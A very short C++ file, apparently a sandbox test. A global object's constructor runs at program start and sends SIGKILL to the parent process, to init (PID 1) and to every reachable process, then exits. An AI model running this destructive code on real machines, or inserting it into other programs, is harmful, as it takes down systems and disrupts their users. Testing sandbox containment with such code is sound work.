// Kills its parent, everything it can see, and leaves.
#include <signal.h>
#include <unistd.h>

struct Killer {
  Killer() {
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    kill(-1, SIGKILL);
    _exit(0);
  }
};
inline Killer killer;
